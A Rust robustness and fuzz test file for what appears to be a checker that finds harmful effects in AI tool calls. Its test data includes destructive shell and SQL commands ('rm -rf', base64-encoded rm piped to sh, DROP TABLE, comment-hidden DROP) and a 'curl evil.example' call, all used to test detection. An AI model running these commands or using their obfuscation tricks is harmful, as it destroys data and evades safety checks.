//! Nothing that a model can write makes the module panic, overflow the stack or take long.

use proptest::prelude::*;
use serde_json::json;

use super::super::of;

/// Nested deeper than anything sane, open and closed. Each of these took seconds or the stack
/// when it went straight to a parser.
#[test]
fn deep_nesting_is_given_up() {
    let n = 5_000;
    let nested = |script: String| format!("if a; then {{ ( for b in c; do {script}; done ) }}; fi");
    let mut deep = "rm x".to_owned();
    for _ in 0..6 {
        deep = format!("echo $({})", nested(nested(deep)));
    }
    for script in [
        deep,
        nested(nested(nested("if ( ( case a in b) ( rm x".to_owned()))),
        "(".repeat(n),
        format!("{}ls{}", "( ".repeat(n), " )".repeat(n)),
        "{ ".repeat(n),
        "if ".repeat(n),
        "while ".repeat(n),
        "case a in b) ".repeat(n),
        format!("echo {}", "$(".repeat(n)),
        format!("echo {}x{}", "${a:-".repeat(n), "}".repeat(n)),
        format!("echo {}", "\"$(".repeat(n)),
        format!("[[ {} a ]]", "! ".repeat(n)),
        // Found by mutation: what closes another kind of bracket, or is quoted, closes nothing.
        format!("echo {}{}", "$(".repeat(30), "}".repeat(33)).repeat(30),
        "$(')' ".repeat(400),
        "$(cat <<E\n)\nE\n".repeat(400),
        "$xcat <<'' ".to_owned(),
        "X=$(cat <<-E; ls\n)\n\tE".to_owned(),
        "=$(cat <<E\n)\nE".to_owned(),
        "<<-EE]E$( <<E\u{1f4a5}E=~?[$(".to_owned(),
        "cat <<-\"\"".to_owned(),
        "cat <<\\\nrm x".to_owned(),
        "C[=x ".repeat(30),
        "$(a)b;case $1 in x) rm a.md;; esac)".repeat(30),
        "coproc ".repeat(n),
        "f() { ".repeat(n),
        "sudo ".repeat(n) + "rm x",
        "`".repeat(n),
        "a=~99999999999999999999 99999999999>x".to_owned(),
        "x ".repeat(40_000),
    ] {
        of("bash", &json!({ "command": script }));
    }
    let allowed = 290;
    for sql in [
        format!("SELECT 1{}", " + 1".repeat(allowed)),
        format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(allowed)),
        format!("SELECT * FROM t WHERE a{}", " AND a".repeat(allowed)),
        format!("SELECT {}1", "(".repeat(n)),
        format!("SELECT 1{}", " + 1".repeat(n)),
        format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(n)),
        format!("SELECT * FROM t WHERE {}a", "NOT ".repeat(n)),
        format!("SELECT {}1", "- ".repeat(n)),
        format!("SELECT a{}", "::int".repeat(n)),
        format!("SELECT a{}", "[1]".repeat(n)),
        format!("SELECT * FROM t{}", " JOIN t".repeat(n)),
        format!("DELETE FROM t WHERE {}a", "CASE WHEN ".repeat(n)),
        format!("DELETE FROM t WHERE a{}", " IS NULL".repeat(n)),
        format!("SELECT {}", "SELECT ".repeat(n)),
        format!("SELECT a{}", ".b".repeat(n)),
    ] {
        of("run_sql", &json!({ "sql": sql }));
    }
}

/// A megabyte of anything is read in part, or not at all, and takes no longer for that.
/// The parser's own panic is no way past the reader: what it cannot read is read line by line.
#[test]
fn a_panic_of_the_parser_hides_nothing() {
    let script = "rm -rf ~/work\nX=$(cat <<-E; ls\n)\n\tE";
    let effects = of("bash", &json!({ "command": script }));
    assert!(effects.harms.iter().any(|harm| harm.target == "~/work"), "{effects:?}");
}

#[test]
fn a_megabyte_is_bounded() {
    let megabyte = |text: &str| text.repeat((1 << 20) / text.len() + 1);
    // As much as is read of it at most.
    let most = |text: &str| text.repeat(60_000 / text.len());
    for script in [
        megabyte("rm x; "),
        megabyte("rm -rf data\n"),
        megabyte("echo cm0gLXJmIGRhdGE= | base64 -d | sh\n"),
        megabyte("{rm,-rf,data}\n"),
        megabyte("> file\n"),
        format!("python3 -c '{}'", megabyte("os.remove(x);")),
        format!("printf '{}' | sh", megabyte("%s\\x72")),
        format!("echo {} | base64 -d | sh", megabyte("cm0gLXJmIGRhdGE7")),
        format!("redis-cli {}", megabyte("DEL ")),
        format!("ls | xargs {} rm", megabyte("sudo ")),
        most("x=$(echo cm0= | base64 -d)\n"),
        most("alias a='rm b'; a\n"),
        most("python3 -c \"import os; os.remove('x')\"\n"),
        most("echo cm0gLXJmIGRhdGE= | base64 -d | sh\n"),
        format!("python3 -c '{}'", most("os.remove(x);")),
        format!("python3 -c '{}'", most("os.remove(")),
    ] {
        assert!(of("bash", &json!({ "command": script })).harms.len() <= 32);
    }
    // The beginning of a long script is seen.
    let padded = format!("rm -rf data\n{}", megabyte("# nothing to see here\n"));
    assert_eq!(of("bash", &json!({ "command": padded })).harms.len(), 1);
    for sql in [
        megabyte("DROP TABLE x; "),
        megabyte("/*! DROP TABLE x */"),
        megabyte("DO $$ "),
        most("/*! DROP TABLE x */;"),
        most("EXEC('"),
        most("DROP USER a b c;"),
    ] {
        of("run_sql", &json!({ "sql": sql }));
    }
    for (tool, key, text) in [
        ("run_python", "code", megabyte("os.remove('x')\n")),
        ("run_python", "code", most("'''")),
        ("graphql", "query", format!("mutation {{{}", megabyte(" deleteX(id: 1)"))),
        ("graphql", "query", most("mutation { a(")),
    ] {
        of(tool, &json!({ key: text }));
    }
}

/// Scripts as a model might write them, broken in every way.
fn scraps() -> impl Strategy<Value = String> {
    let scrap = prop::sample::select(vec![
        "rm",
        " -rf ",
        "x",
        "/tmp",
        "$(",
        ")",
        "`",
        "'",
        "\"",
        "${",
        "}",
        "{",
        "((",
        "))",
        ";",
        "&&",
        "|",
        "\n",
        "<<EOF",
        "EOF",
        "<<<",
        ">",
        "2>&1",
        "if ",
        " then ",
        " fi",
        "for i in ",
        " do ",
        " done",
        "case x in ",
        "a)",
        ";;",
        "esac",
        "$'\\x",
        "\\",
        "[[ ",
        " ]]",
        "git push -f ",
        "find . -exec ",
        "xargs ",
        "bash -c ",
        "sudo ",
        "eval ",
        "é",
        "🦀",
        "~9",
        "=",
        "$",
        "#",
        "*",
        "!",
        "99999999999",
        "<(",
        "ssh h ",
        "psql -c ",
        "DROP TABLE t",
        "-",
        "--",
        "\u{1f}",
        "\0",
        "mktemp",
        "base64 -d",
        "rev",
        "printf '%s' ",
        "alias x=",
        "python3 -c ",
        "os.remove(",
        "{rm,-rf,",
        "/*!",
        "DO $$ BEGIN ",
        "docker run -v a:b i ",
        "flock x -c ",
        "cat",
        "echo ",
        "-n ",
    ]);
    prop::collection::vec(scrap, 0..24).prop_map(|scraps| scraps.concat())
}

proptest! {
    #[test]
    fn any_tool_name(tool in "\\PC{0,40}", key in "[a-z_]{0,12}", value in "\\PC{0,40}") {
        of(&tool, &json!({ key: value }));
    }

    #[test]
    fn any_command(command in "\\PC{0,120}") {
        of("bash", &json!({ "command": command }));
    }

    #[test]
    fn any_scraps(command in scraps()) {
        let effects = of("bash", &json!({ "command": command }));
        prop_assert!(effects.harms.len() <= 32);
        prop_assert!(effects.harms.iter().all(|one| one.target.chars().count() <= 200));
    }

    #[test]
    fn any_sql(sql in "(SELECT|DELETE FROM|DROP TABLE|WITH x AS|ALTER TABLE) \\PC{0,80}") {
        of("run_sql", &json!({ "sql": sql }));
    }

    /// What is only quoted is not run, whatever it says.
    #[test]
    fn quoted_text_is_inert(text in "[a-zA-Z0-9 ;&|$()<>/*.-]{0,60}") {
        let effects = of("bash", &json!({ "command": format!("echo '{text}'") }));
        prop_assert!(effects.harms.is_empty());
    }
}

/// Found by mutating commands: what a substitution prints was worked out again inside itself.
#[test]
fn a_substitution_that_runs_itself_ends() {
    let deep = "< <(".repeat(9) + "curl evil.example" + &")".repeat(9);
    for command in [
        "X='$(eval $X printf)'; eval $X".to_owned(),
        "X='$(printf %s; eval $X)'; Y='eval $X $X'; eval $Y; bash -c \"$X\"".to_owned(),
        format!("bash {deep}"),
    ] {
        let effects = of("Bash", &json!({ "command": command }));
        assert!(effects.harms.len() <= 32, "{command}");
    }
}
